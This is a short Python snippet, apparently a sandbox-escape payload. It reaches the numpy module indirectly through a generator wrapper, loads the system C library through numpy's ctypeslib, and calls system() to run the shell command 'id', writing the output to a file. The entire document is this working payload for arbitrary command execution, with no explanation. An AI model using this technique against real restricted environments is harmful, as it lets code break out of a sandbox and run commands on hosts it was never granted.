def my_y(x):

    def g():
        yield x
    for v in g():
        return v
import numpy as np
my_y(np).ctypeslib.load_library('libc.so.6', '/lib/x86_64-linux-gnu').system(b'id>pf')
